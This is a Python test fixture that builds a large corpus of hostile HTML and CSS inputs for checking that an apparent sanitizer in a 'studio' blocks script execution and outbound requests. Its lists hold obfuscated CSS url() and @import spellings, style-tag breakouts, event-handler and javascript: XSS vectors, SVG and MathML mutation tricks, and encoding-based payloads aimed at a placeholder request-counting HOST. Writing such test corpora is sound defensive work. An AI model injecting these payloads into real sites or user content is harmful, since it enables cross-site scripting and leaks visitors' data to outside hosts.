"""Pages that want to run a script in the frame of the studio, or to let its viewer's browser ask another host.

`canary()` counts a script that runs; HOST is the address of a server that counts requests.
"""

# ruff: noqa: E501

from __future__ import annotations

from itertools import product
from typing import Final

from tests.console import hostile_texts

SPELLINGS: Final = [
    "url(//HOST/u)", "url('//HOST/u')", 'url("//HOST/u")', "URL(//HOST/u)", "uRl( //HOST/u )", "url(\t'//HOST/u'\n)",
    "u\\72l(//HOST/u)", "\\75rl(//HOST/u)", "\\000075 rl(//HOST/u)", "\\55\\52\\4c(//HOST/u)", "url(\\2f\\2fHOST/u)",
    "url(\\68ttp://HOST/u)", "url('\\2f/HOST/u')", "url('//HOST/\\\nu')", "url(http:HOST/u)", "url(HTTP://HOST/u)", "url(\\\\\\\\HOST/u)",
    "url(//HOST/u", "url('//HOST/u", "url(/**//HOST/u)", "url(//HOST/u'x)", "url(//HOST/u) url(//HOST/v)",
    "image-set('//HOST/u' 1x)", "image-set(url(//HOST/u) 1x, '//HOST/v' 2x)", "-webkit-image-set(url(//HOST/u) 1x)",
    "image('//HOST/u')", "src('//HOST/u')", "src(var(--u))", "cross-fade(url(//HOST/u), url(//HOST/v), 50%)", "-webkit-cross-fade(url(//HOST/u), url(//HOST/v), 50%)",
    "expression(canary())", "url(javascript:canary())", "url('data:text/html,<script>canary()</script>')",
    "url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'><image href='//HOST/i'/></svg>\")",
    "-moz-element(#x)", "paint(x)", "attr(data-u url)", "var(--u)", "url(//HOST/\\0)", "url(//HOST/u#x)", "element(#x), url(//HOST/u)",
    "url(\x01//HOST/u)", "url(/\\/HOST/u)", "url(https://HOST@HOST/u)",
]  # fmt: skip
PROPERTIES: Final = (
    "background-image",
    "list-style-image",
    "cursor",
    "border-image-source",
    "mask-image",
    "content",
    "--u",
)
SHEETS: Final = [
    "@import '//HOST/i';", "@import url(//HOST/i);", "@IMPORT \"//HOST/i\" screen;", "@im\\70ort '//HOST/i';", "@import/**/'//HOST/i';",
    "@import url('//HOST/i') layer(x) supports(display:grid);", "<!-- @import '//HOST/i'; -->", "@charset 'x'; @import '//HOST/i';",
    "@font-face{font-family:a;src:url(//HOST/f)}body{font-family:a}", "@font-face{font-family:a;src:local(x),url('//HOST/f')format('woff2')}body{font-family:a}",
    "@namespace url(//HOST/n); *{color:red}", "@media all{body{background:url(//HOST/m)}}", "@supports(display:grid){body{background:url(//HOST/s)}}",
    "@layer x{body{background:url(//HOST/l)}}", "@container (width > 1px){p{background:url(//HOST/c)}}", "body{--u:url(//HOST/v);background:var(--u)}",
    "@property --p{syntax:'<image>';inherits:false;initial-value:url(//HOST/p)}body{background:var(--p)}", "body{&{background:url(//HOST/nest)}}",
    "@keyframes k{from{background:url(//HOST/k)}to{background:url(//HOST/k2)}}body{animation:k 1s infinite}", "body:has(p){background:url(//HOST/has)}",
    "p::before{content:url(//HOST/before)}", "p::marker{content:url(//HOST/marker)}p{display:list-item}", "body{background:url(//HOST/a);behavior:url(//HOST/b);-moz-binding:url(//HOST/c)}",
    "a{}</style><script>canary()</script>", "a{content:'</style><img src=//HOST/x onerror=canary()>'}", "/*</style><script>canary()</script>*/",
    "a{b:\"\\\"}</style><script>canary()</script>", "@import '//HOST/x\\\n.css';", "body{background:url(//HOST/a)}\0@import '//HOST/z';",
    "@view-transition{navigation:auto}body{background:url(//HOST/vt)}", "@counter-style c{system:cyclic;symbols:url(//HOST/cs)}ol{list-style:c}",
]  # fmt: skip
"""Contents of a style sheet."""
ELEMENTS: Final = [
    "<link rel=stylesheet href=//HOST/l>", "<link rel='preload' as=style href=//HOST/l onload=\"this.rel='stylesheet'\">", "<link rel=modulepreload href=//HOST/l>",
    "<link rel=preload as=image href=//HOST/l imagesrcset='//HOST/s 1x'>", "<link rel=preload as=font crossorigin href=//HOST/l>", "<link rel=preload as=script href=//HOST/l>",
    "<link rel=preload as=fetch href=//HOST/l>", "<link rel='dns-prefetch preconnect' href=//HOST>", "<link rel=prerender href=//HOST/l>", "<link rel='alternate stylesheet' href=//HOST/l title=x>",
    "<link rel=import href=//HOST/l>", "<link rel=expect href=#x blocking=render>", "<link rel=apple-touch-icon href=//HOST/l>", "<link rel=pingback href=//HOST/l>", "<link rel=compression-dictionary href=//HOST/l>",
    "<meta http-equiv=refresh content='0;url=//HOST/r'>", "<meta http-equiv='Refresh' content='0; javascript:canary()'>", "<meta http-equiv=content-security-policy content=\"script-src *\">",
    "<meta http-equiv=origin-trial content=x>", "<meta name=referrer content=unsafe-url>", "<meta http-equiv=x-dns-prefetch-control content=on><a href=//HOST>x</a>", "<base href=//HOST/><img src=x>", "<base target=_top><a href=x>x</a>",
    "<iframe srcdoc='&lt;script&gt;parent.canary()&lt;/script&gt;'></iframe>", "<iframe src='javascript:parent.canary()'></iframe>", "<frameset onload=canary()><frame src=//HOST/f></frameset>",
    "<object data='data:text/html,<script>parent.canary()</script>'></object>", "<object type=text/html data=//HOST/o><embed src=//HOST/e></object>", "<embed type='image/svg+xml' src='data:image/svg+xml,<svg onload=canary() xmlns=http://www.w3.org/2000/svg />'>",
    "<form action=//HOST/f method=post><input name=a><input type=submit autofocus></form>", "<form id=f></form><button form=f formaction=//HOST/b formmethod=get>x</button>", "<form action='javascript:canary()'><button>x</button></form>",
    "<input type=image src=//HOST/i formaction=//HOST/f>", "<isindex action=//HOST/i>", "<a href=//HOST/a ping=//HOST/p download>x</a>", "<area href='javascript:canary()' shape=default>",
    "<video poster=//HOST/p src=//HOST/v autoplay><track default src=//HOST/t></video>", "<audio src=//HOST/a autoplay preload=auto></audio>", "<picture><source srcset='//HOST/s 1x, //HOST/t 2x'><img src=//HOST/i srcset='//HOST/u 100w'></picture>",
    "<img src=//HOST/i loading=eager fetchpriority=high referrerpolicy=unsafe-url crossorigin>", "<img data-src=//HOST/d>", "<img src=data:image/gif,x data-src='javascript:canary()'>", "<img srcset='data:,x 1x, //HOST/i 2x'>", "<img srcset=',,, //HOST/i,//HOST/j 2x,'>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"canary()\"><script>canary()</script></svg>'>", "<img lowsrc=//HOST/l dynsrc=//HOST/d>", "<body background=//HOST/b>", "<table background=//HOST/t><td background=//HOST/d>x</table>",
    "<svg><image href=//HOST/i /><image xlink:href=//HOST/j /></svg>", "<svg><use href=//HOST/u#x /><use xlink:href='data:image/svg+xml,<svg id=x onload=canary() />#x' /></svg>", "<svg><feImage href=//HOST/f /></svg>",
    "<svg><a href='javascript:canary()'><text y=20>x</text></a></svg>", "<svg><animate attributeName=href values='javascript:canary()' /><set attributeName=onload to=canary() /></svg>", "<svg><style>@import '//HOST/i';*{fill:url(//HOST/f)}</style><rect width=9 height=9 /></svg>",
    "<svg><rect fill='url(//HOST/f#x)' filter='u\\72l(//HOST/g)' style='mask:url(//HOST/m)' width=9 height=9 /></svg>", "<svg><style><img src=x onerror=canary()></style></svg>", "<svg><foreignObject><img src=//HOST/i onerror=canary()></foreignObject></svg>",
    "<svg><desc><iframe srcdoc='<script>parent.canary()</script>'></iframe></desc><title><img src=x onerror=canary()></title></svg>", "<svg><script href=//HOST/s></script><script>canary()</script></svg>", "<svg><handler type=text/javascript>canary()</handler><discard href=#x /></svg>", "<svg><text><textPath href=//HOST/t>x</textPath></text><mpath href=//HOST/m /></svg>",
    "<math href='javascript:canary()'><mi>x</mi></math>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=canary()&gt;'>", "<math><annotation-xml encoding=text/html><script>canary()</script></annotation-xml></math>", "<math><maction actiontype=statusline xlink:href=javascript:canary()>x</maction></math>",
    "<template><img src=//HOST/t onerror=canary()></template>", "<div><template shadowrootmode=open><img src=//HOST/s onerror=canary()><script>canary()</script></template></div>", "<noscript><img src=//HOST/n></noscript>", "<noscript><p title='</noscript><img src=x onerror=canary()>'></noscript>",
    "<!--><img src=x onerror=canary()>-->", "<!--<img src='--><img src=x onerror=canary()//'>", "<![CDATA[<img src=x onerror=canary()>]]>", "<?php ><img src=x onerror=canary()>?>", "<!doctype html [<!ENTITY x SYSTEM '//HOST/e'>]>&x;", "<?xml-stylesheet href='//HOST/x'?>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//HOST/s\"]}]}</script>", "<script type=importmap>{\"imports\":{\"x\":\"//HOST/m\"}}</script>", "<script type=module>import '//HOST/m'; canary()</script>", "<script nonce=x>canary()</script>", "<script/x>canary()</script x>",
    "<nephila-box onclick=canary()>x</nephila-box>", "<p data-nephila='1\" onmouseover=\"canary()' data-nephila-field=x>x</p>", "<x-evil is=x style='background:url(//HOST/x)' onclick=canary()>x</x-evil>", "<font-face src=//HOST/f>x</font-face>", "<p style='x:y\" onload=\"canary()'>x</p>",
    "<p class='x\" onclick=canary() y=\"'>x</p>", "<a id=parent name=parent href='javascript:canary()'>x</a><form id=document name=addEventListener><img name=postMessage></form>", "<p title=`><img src=x onerror=canary()>`>x</p>", "<head><head onload=canary()></head><base href=//HOST/>", "<html onload=canary() manifest=//HOST/m style='background:url(//HOST/h)'>",
    "<select><option style='background:url(//HOST/o)'>x<img src=x onerror=canary()></select>", "<textarea></textarea\x00><script>canary()</script></textarea>", "<xmp><img src=x onerror=canary()></xmp><listing><img src=//HOST/l></listing>", "<plaintext><script>canary()</script>", "<marquee behavior=alternate onstart=canary()>x</marquee>",
    "<p contenteditable autofocus onfocus=canary()>x</p>", "<button popovertarget=x onclick=canary() autofocus>x</button><div popover id=x onbeforetoggle=canary()>y</div>", "<dialog open onclose=canary()><form method=dialog><button autofocus>x</button></form></dialog>", "<p style='background:&#117;rl(//HOST/e)'>x</p>", "<p style='background:url(&quot;//HOST/q&quot;)'>x</p>",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-", "<meta charset=utf-7>+ADw-img src=x onerror=canary()+AD4-", "<meta charset=iso-2022-jp>\x1b$B<script>canary()</script>", "\ufeff<script>canary()</script>", "<scr\x00ipt>canary()</scr\x00ipt>", "<img src\x00=//HOST/n>", "<\x00img src=//HOST/n onerror=canary()>",
]  # fmt: skip
"""Elements of the body, or of the head."""


def pages(host: str) -> list[str]:
    """All of them with the address of the server that counts; each is there once."""
    declared = [
        f"{name}:{value}"
        for (at, value), name in product(enumerate(SPELLINGS), PROPERTIES)
        if PROPERTIES[at % len(PROPERTIES)] == name
    ]
    styles = [f"<style>{sheet}</style><p>x" for sheet in SHEETS]
    styles += [f"<style>p,body,a::before{{{one}}}</style><p><a>x</a>" for one in declared]
    inline = [f'<p style="{one.replace(chr(34), "&quot;")}">x</p>' for one in declared]
    links = [f'<a href="{link}">x</a><img src="{link}">' for link in hostile_texts.LINKS]
    borrowed = [*hostile_texts.ELEMENTS, *hostile_texts.HANDLERS, *hostile_texts.BREAKOUTS, *hostile_texts.ENCODINGS]
    return [one.replace("HOST", host) for one in dict.fromkeys([*ELEMENTS, *styles, *inline, *links, *borrowed])]
